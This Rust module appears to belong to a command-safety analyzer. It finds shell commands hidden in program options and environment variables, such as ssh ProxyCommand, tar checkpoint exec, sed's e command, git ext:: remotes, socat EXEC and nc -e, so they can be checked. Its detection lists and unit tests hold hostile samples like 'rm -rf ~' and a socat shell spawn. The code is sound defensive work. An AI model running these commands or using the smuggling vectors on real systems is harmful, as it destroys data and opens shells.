//! Commands hidden in options and variables: an editor's `-c '!cmd'`, `man -P`, ssh's
//! `ProxyCommand`, `rsync -e`, tar's `--to-command` and `--checkpoint-action=exec=`,
//! `zip -TT`, sed's `e` command, gdb's `shell`, expect's `spawn`, socat's `EXEC:`, `nc -c`,
//! `fd -x`, git's `ext::` URLs, `submodule foreach`, `rebase --exec`, `bisect run`,
//! `filter-branch`, `difftool -x`, and the variables programs run as commands (`EDITOR`,
//! `PAGER`, `GIT_SSH_COMMAND`, `LESSOPEN`, `GIT_CONFIG_*`, …).
//!
//! Each becomes follow-up work (the command line it runs), so every rule applies to it as if
//! it had been written plainly.

use std::sync::LazyLock;

use regex::Regex;

use super::builtins::Nested;
use super::{Command, Ctx, Walker, UNKNOWN};

/// Variables whose value a program runs as a command line.
const COMMAND_VARIABLES: &[&str] = &[
    "EDITOR",
    "VISUAL",
    "PAGER",
    "MANPAGER",
    "SYSTEMD_PAGER",
    "GIT_PAGER",
    "GIT_EDITOR",
    "GIT_SEQUENCE_EDITOR",
    "GIT_SSH_COMMAND",
    "GIT_SSH",
    "GIT_EXTERNAL_DIFF",
    "GIT_ASKPASS",
    "SSH_ASKPASS",
    "SUDO_ASKPASS",
    "GIT_PROXY_COMMAND",
    "BROWSER",
    "LESSOPEN",
    "LESSCLOSE",
    "RSYNC_RSH",
    "CVS_RSH",
    "PROMPT_COMMAND",
];

/// ssh options (`-o Name=value`) whose value is a local command.
const SSH_COMMAND_OPTIONS: &[&str] = &["proxycommand", "localcommand", "knownhostscommand"];

impl Walker<'_> {
    /// The command lines `cmd`'s options and variables make it run.
    pub(super) fn option_commands(&mut self, cmd: &mut Command, ctx: &Ctx) -> Vec<Nested> {
        let mut out = Vec::new();
        // Moved out and back (not copied): this runs for every command of every event.
        let assigns = std::mem::take(&mut cmd.assigns);
        let args = std::mem::take(&mut cmd.args);
        let assigned = |name: &str| {
            ctx.variable(&assigns, name)
                .map(|v| v.unwrap_or_else(|| UNKNOWN.to_string()))
        };
        for name in COMMAND_VARIABLES {
            if let Some(value) = assigned(name) {
                out.push(variable_command(name, &value));
            }
        }
        let scripts: Vec<String> = match cmd.program.as_str() {
            "vim" | "vi" | "nvim" | "view" | "vimdiff" | "ex" | "gvim" | "rvim" => {
                editor_commands(&args)
            }
            "man" => option_values(&args, &["-P", "--pager"]),
            "ssh" | "scp" | "sftp" => ssh_commands(&args),
            "rsync" => option_values(&args, &["-e", "--rsh"]),
            "tar" | "gtar" => tar_commands(&args),
            "zip" => option_values(&args, &["-TT", "--unzip-command"]),
            "sed" | "gsed" => sed_script(cmd, &args),
            "gdb" => gdb_commands(&args, &mut out),
            "expect" => expect_commands(&args),
            "socat" => socat_commands(&args),
            "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => {
                let mut v = option_values(&args, &["-c", "--sh-exec"]);
                v.extend(option_values(&args, &["-e", "--exec"]));
                v
            }
            "fd" | "fdfind" => {
                out.extend(fd_exec(&args).map(Nested::Argv));
                Vec::new()
            }
            "git" => git_commands(&args, &assigned, &mut out),
            _ => Vec::new(),
        };
        cmd.args = args;
        cmd.assigns = assigns;
        out.extend(scripts.into_iter().map(Nested::Script));
        out
    }
}

/// The command line a variable's value stands for: `LESSOPEN='|cmd %s'` runs `cmd FILE`.
fn variable_command(name: &str, value: &str) -> Nested {
    let text = if name.starts_with("LESS") {
        value.trim_start_matches(['|', '-']).replace("%s", "./*")
    } else {
        value.to_owned()
    };
    Nested::Script(text)
}

/// The values of `flags` (`-P CMD`, `-PCMD` for one-letter flags, `--pager=CMD`).
fn option_values(args: &[String], flags: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if flags.contains(&a.as_str()) {
            out.extend(it.next().cloned());
        } else if let Some(v) = flags.iter().find_map(|f| {
            if f.starts_with("--") {
                a.strip_prefix(&format!("{f}="))
            } else if f.len() == 2 {
                a.strip_prefix(f)
                    .filter(|v| !v.is_empty() && !a.starts_with("--"))
            } else {
                None
            }
        }) {
            out.push(v.to_owned());
        }
    }
    out
}

/// An editor's `-c CMD`, `+CMD` and `--cmd CMD`: the shell commands in them (`!cmd`,
/// `r !cmd`, `w !cmd`, `call system('cmd')`).
fn editor_commands(args: &[String]) -> Vec<String> {
    static BANG: LazyLock<Regex> = LazyLock::new(|| {
        crate::pattern(
            r"(?:^|\|)\s*:*\s*(?:silent!?\s*)?(?:\d*,?\d*\s*)?(?:r(?:ead)?|w(?:rite)?|\.)?\s*!(.*)",
        )
    });
    static SYSTEM: LazyLock<Regex> = LazyLock::new(|| {
        crate::pattern(r#"\b(?:system|systemlist|jobstart|termopen)\s*\(\s*['"]([^'"]*)['"]"#)
    });
    let mut ex = option_values(args, &["-c", "--cmd", "-S"]);
    ex.extend(
        args.iter()
            .filter_map(|a| a.strip_prefix('+'))
            .filter(|c| !c.is_empty() && !c.chars().all(|ch| ch.is_ascii_digit()))
            .map(str::to_owned),
    );
    let mut out = Vec::new();
    for text in ex {
        for line in text.split('\n') {
            if let Some(c) = BANG.captures(line) {
                out.push(c[1].to_owned());
            }
            out.extend(SYSTEM.captures_iter(line).map(|c| c[1].to_owned()));
        }
    }
    out
}

/// ssh's `-o ProxyCommand=CMD` (or `-o "ProxyCommand CMD"`, `-oProxyCommand=CMD`).
fn ssh_commands(args: &[String]) -> Vec<String> {
    option_values(args, &["-o"])
        .into_iter()
        .filter_map(|o| {
            let (name, value) = o
                .split_once('=')
                .or_else(|| o.split_once(char::is_whitespace))?;
            SSH_COMMAND_OPTIONS
                .contains(&name.trim().to_lowercase().as_str())
                .then(|| value.trim().to_owned())
                .filter(|v| !v.eq_ignore_ascii_case("none"))
        })
        .collect()
}

/// tar's `--to-command`, `--checkpoint-action=exec=`, `-I`/`--use-compress-program`,
/// `--info-script`/`--new-volume-script`/`-F`.
fn tar_commands(args: &[String]) -> Vec<String> {
    let mut out = option_values(
        args,
        &[
            "--to-command",
            "--use-compress-program",
            "-I",
            "--info-script",
            "--new-volume-script",
            "-F",
        ],
    );
    out.extend(
        option_values(args, &["--checkpoint-action"])
            .into_iter()
            .filter_map(|a| a.strip_prefix("exec=").map(str::to_owned)),
    );
    out
}

/// sed's `e COMMAND` (a command, returned), `e` and `s///e` (its input run as commands) and
/// `w FILE` / `s///w FILE` (writes), recorded on `cmd`.
fn sed_script(cmd: &mut Command, args: &[String]) -> Vec<String> {
    let mut commands = Vec::new();
    let mut scripts = option_values(args, &["-e", "--expression"]);
    if scripts.is_empty() {
        let mut it = args.iter();
        while let Some(a) = it.next() {
            if a == "-f" || a == "--file" || a == "-l" {
                it.next();
            } else if !a.starts_with('-') {
                scripts.push(a.clone());
                break;
            }
        }
    }
    for script in scripts {
        for (kind, value) in sed_commands(&script) {
            match kind {
                'e' if value.is_empty() => {
                    cmd.dynamic_code =
                        Some("`sed` runs its input as commands (the `e` command)".to_owned());
                }
                'e' => commands.push(value),
                'E' => {
                    cmd.dynamic_code = Some(
                        "`sed` runs what it substitutes as a command (the `e` flag)".to_owned(),
                    );
                }
                'w' => cmd.code_paths.writes.push(value),
                _ => {}
            }
        }
    }
    commands
}

/// sed's commands that run or write: `('e', cmd)`, `('E', "")` for `s///e`, `('w', file)`.
fn sed_commands(script: &str) -> Vec<(char, String)> {
    let mut out = Vec::new();
    let chars: Vec<char> = script.chars().collect();
    let mut i = 0;
    let rest_of_line = |from: usize| -> (String, usize) {
        let end = chars[from..]
            .iter()
            .position(|c| *c == '\n')
            .map_or(chars.len(), |p| from + p);
        (
            chars[from..end]
                .iter()
                .collect::<String>()
                .trim()
                .to_owned(),
            end,
        )
    };
    while i < chars.len() {
        let c = chars[i];
        match c {
            's' | 'y' if i + 1 < chars.len() && !chars[i + 1].is_alphanumeric() => {
                let delim = chars[i + 1];
                let mut j = i + 2;
                let mut parts = 0;
                while j < chars.len() && parts < 2 {
                    if chars[j] == '\\' {
                        j += 2;
                        continue;
                    }
                    if chars[j] == delim {
                        parts += 1;
                    }
                    j += 1;
                }
                // Flags, up to the end of the command.
                while j < chars.len() && !matches!(chars[j], ';' | '\n' | '}') {
                    if c == 's' && chars[j] == 'e' {
                        out.push(('E', String::new()));
                    }
                    if c == 's' && chars[j] == 'w' {
                        let (file, end) = rest_of_line(j + 1);
                        out.push(('w', file));
                        j = end;
                        break;
                    }
                    j += 1;
                }
                i = j;
            }
            'e' | 'w' | 'W' => {
                let prev = chars[..i].iter().rev().find(|c| !c.is_whitespace());
                let starts = prev.is_none_or(|p| {
                    matches!(p, ';' | '\n' | '{' | '}' | '/' | '$') || p.is_ascii_digit()
                });
                let next_ok = chars
                    .get(i + 1)
                    .is_none_or(|n| n.is_whitespace() || *n == ';');
                if starts && next_ok {
                    let (value, end) = rest_of_line(i + 1);
                    let value = if c == 'e' {
                        value
                            .split(';')
                            .next()
                            .unwrap_or_default()
                            .trim()
                            .to_owned()
                    } else {
                        value
                    };
                    out.push((if c == 'e' { 'e' } else { 'w' }, value));
                    i = end;
                } else {
                    i += 1;
                }
            }
            _ => i += 1,
        }
    }
    out
}

/// gdb's `-ex`/`-iex`/`--eval-command`: `shell CMD`, `!CMD`, `pipe … | CMD`; `python CODE`
/// as Python.
fn gdb_commands(args: &[String], out: &mut Vec<Nested>) -> Vec<String> {
    let mut scripts = Vec::new();
    for c in option_values(
        args,
        &["-ex", "-iex", "--eval-command", "--init-eval-command"],
    ) {
        let c = c.trim();
        if let Some(rest) = c.strip_prefix("shell ").or_else(|| c.strip_prefix('!')) {
            scripts.push(rest.to_owned());
        } else if let Some(code) = c.strip_prefix("python ").or_else(|| c.strip_prefix("py ")) {
            out.push(Nested::Argv(vec![
                "python3".into(),
                "-c".into(),
                code.to_owned(),
            ]));
        } else if let Some((_, cmd)) = c.strip_prefix("pipe ").and_then(|p| p.split_once('|')) {
            scripts.push(cmd.to_owned());
        }
    }
    scripts
}

/// expect's `-c` script: what it `spawn`s and `exec`s.
fn expect_commands(args: &[String]) -> Vec<String> {
    static SPAWN: LazyLock<Regex> = LazyLock::new(|| {
        crate::pattern(r"(?m)(?:^|;|\[)\s*(?:spawn|exec)\s+(?:-\w+\s+)*([^;\]\n]+)")
    });
    option_values(args, &["-c"])
        .iter()
        .flat_map(|s| {
            SPAWN
                .captures_iter(s)
                .map(|c| c[1].trim().to_owned())
                .collect::<Vec<_>>()
        })
        .collect()
}

/// socat's `EXEC:cmd,opts` and `SYSTEM:cmd,opts` addresses.
fn socat_commands(args: &[String]) -> Vec<String> {
    args.iter()
        .filter_map(|a| {
            let (kind, rest) = a.split_once(':')?;
            let kind = kind.to_lowercase();
            (kind == "exec" || kind == "system").then(|| {
                let cmd = rest.split(',').next().unwrap_or_default();
                cmd.trim_matches(['"', '\'']).to_owned()
            })
        })
        .collect()
}

/// `fd PATTERN [ROOT] -x CMD…` / `-X CMD…`: the command, once for everything below the root.
fn fd_exec(args: &[String]) -> Option<Vec<String>> {
    let at = args
        .iter()
        .position(|a| matches!(a.as_str(), "-x" | "--exec" | "-X" | "--exec-batch"))?;
    let positionals: Vec<&String> = args[..at].iter().filter(|a| !a.starts_with('-')).collect();
    let root = positionals
        .get(1)
        .map_or(".", |r| r.as_str())
        .trim_end_matches('/');
    let below = format!("{root}/*");
    let mut argv: Vec<String> = args[at + 1..]
        .iter()
        .take_while(|a| *a != ";")
        .cloned()
        .collect();
    if argv.is_empty() {
        return None;
    }
    let mut placed = false;
    for a in &mut argv {
        if a.contains('{') && a.contains('}') {
            *a = below.clone();
            placed = true;
        }
    }
    if !placed {
        argv.push(below);
    }
    if matches!(argv[0].as_str(), "rm" | "unlink" | "shred") {
        argv.insert(1, "-r".to_owned());
    }
    Some(argv)
}

/// git's commands run from its arguments: `ext::` URLs, `submodule foreach`, `rebase
/// --exec`/`-x`, `bisect run`, `difftool -x`/`--extcmd`, `filter-branch`'s filters, and the
/// configuration given in `GIT_CONFIG_COUNT`/`KEY_n`/`VALUE_n` or `GIT_CONFIG_PARAMETERS`.
fn git_commands(
    args: &[String],
    assigned: &dyn Fn(&str) -> Option<String>,
    out: &mut Vec<Nested>,
) -> Vec<String> {
    out.extend(
        args.iter()
            .filter_map(|a| a.strip_prefix("ext::"))
            .map(|c| Nested::Argv(ext_argv(c))),
    );
    let mut scripts = Vec::new();
    let sub_at = args.iter().position(|a| {
        matches!(
            a.as_str(),
            "submodule" | "rebase" | "bisect" | "difftool" | "filter-branch" | "mergetool"
        )
    });
    if let Some(at) = sub_at {
        let rest = &args[at + 1..];
        match args[at].as_str() {
            "submodule" => {
                if let Some(f) = rest.iter().position(|a| a == "foreach") {
                    let body: Vec<&str> = rest[f + 1..]
                        .iter()
                        .map(String::as_str)
                        .filter(|a| !a.starts_with("--"))
                        .collect();
                    scripts.push(body.join(" "));
                }
            }
            "rebase" => scripts.extend(option_values(rest, &["-x", "--exec"])),
            "bisect" if rest.first().is_some_and(|a| a == "run") => {
                out.push(Nested::Argv(rest[1..].to_vec()));
            }
            "difftool" | "mergetool" => {
                scripts.extend(option_values(rest, &["-x", "--extcmd"]));
            }
            "filter-branch" => scripts.extend(option_values(
                rest,
                &[
                    "--tree-filter",
                    "--index-filter",
                    "--msg-filter",
                    "--env-filter",
                    "--commit-filter",
                    "--parent-filter",
                    "--tag-name-filter",
                ],
            )),
            _ => {}
        }
    }
    // Configuration from the environment, checked as `git -c` is.
    let mut config = Vec::new();
    if let Some(n) = assigned("GIT_CONFIG_COUNT").and_then(|n| n.parse::<usize>().ok()) {
        for i in 0..n.min(64) {
            if let (Some(k), Some(v)) = (
                assigned(&format!("GIT_CONFIG_KEY_{i}")),
                assigned(&format!("GIT_CONFIG_VALUE_{i}")),
            ) {
                config.push(format!("{k}={v}"));
            }
        }
    }
    if let Some(params) = assigned("GIT_CONFIG_PARAMETERS") {
        static PAIR: LazyLock<Regex> =
            LazyLock::new(|| crate::pattern(r"'([^']*)'\s*=\s*'([^']*)'"));
        config.extend(
            PAIR.captures_iter(&params)
                .map(|c| format!("{}={}", &c[1], &c[2])),
        );
    }
    if !config.is_empty() {
        let mut argv = vec!["git".to_owned()];
        for kv in config {
            argv.push("-c".into());
            argv.push(kv);
        }
        argv.push("status".into());
        out.push(Nested::Argv(argv));
    }
    scripts
}

/// The argv of a `ext::` remote: words split at spaces not escaped by `%`, `%S`/`%s` the
/// service, `%G` and `%V` dropped.
fn ext_argv(spec: &str) -> Vec<String> {
    let mut argv = Vec::new();
    let mut word = String::new();
    let mut chars = spec.chars();
    while let Some(c) = chars.next() {
        match c {
            '%' => match chars.next() {
                Some(' ') => word.push(' '),
                Some('%') => word.push('%'),
                Some('S') => word.push_str("git-upload-pack"),
                Some('s') => word.push_str("upload-pack"),
                _ => {}
            },
            ' ' => {
                if !word.is_empty() {
                    argv.push(std::mem::take(&mut word));
                }
            }
            c => word.push(c),
        }
    }
    if !word.is_empty() {
        argv.push(word);
    }
    argv
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strings(a: &[&str]) -> Vec<String> {
        a.iter().map(|s| (*s).to_owned()).collect()
    }

    #[test]
    fn editors_ssh_tar_and_socat_name_the_commands_they_run() {
        assert_eq!(
            editor_commands(&strings(&["-c", ":!rm -rf ~", "+call system('id')", "x"])),
            ["rm -rf ~", "id"]
        );
        assert!(editor_commands(&strings(&["-c", "wq", "+10", "f"])).is_empty());
        assert_eq!(
            ssh_commands(&strings(&[
                "-o",
                "ProxyCommand=sh -c 'id'",
                "-oLocalCommand id2",
                "h"
            ])),
            ["sh -c 'id'", "id2"]
        );
        assert!(ssh_commands(&strings(&["-o", "ProxyCommand=none", "-o", "Port=22"])).is_empty());
        assert_eq!(
            tar_commands(&strings(&[
                "-xf",
                "a.tar",
                "--to-command=sh -c x",
                "--checkpoint=1",
                "--checkpoint-action=exec=id",
            ])),
            ["sh -c x", "id"]
        );
        assert_eq!(
            socat_commands(&strings(&["TCP:1.2.3.4:9", "EXEC:/bin/sh,pty,stderr"])),
            ["/bin/sh"]
        );
    }

    #[test]
    fn sed_commands_that_run_or_write_are_found() {
        assert_eq!(sed_commands("1e rm -rf ~"), [('e', "rm -rf ~".to_owned())]);
        assert_eq!(sed_commands("s/a/b/e"), [('E', String::new())]);
        assert_eq!(sed_commands("s/x/y/w /tmp/o"), [('w', "/tmp/o".to_owned())]);
        assert_eq!(sed_commands("/x/w out.txt"), [('w', "out.txt".to_owned())]);
        assert!(sed_commands("s/e/w/g; s|where|ewe|").is_empty());
        assert!(sed_commands("1d;$d").is_empty());
    }

    #[test]
    fn ext_remotes_split_as_git_splits_them() {
        assert_eq!(ext_argv("sh -c rm% -rf% ~"), ["sh", "-c", "rm -rf ~"]);
        assert_eq!(
            ext_argv("ssh -p 22 h %S% 'repo'"),
            ["ssh", "-p", "22", "h", "git-upload-pack 'repo'"]
        );
    }

    #[test]
    fn fd_exec_runs_below_its_root() {
        assert_eq!(
            fd_exec(&strings(&["-H", "id_", "/h", "-x", "cat", "{}"])).unwrap(),
            ["cat", "/h/*"]
        );
        assert_eq!(
            fd_exec(&strings(&["x", "-X", "rm", "-f"])).unwrap(),
            ["rm", "-r", "-f", "./*"]
        );
    }
}
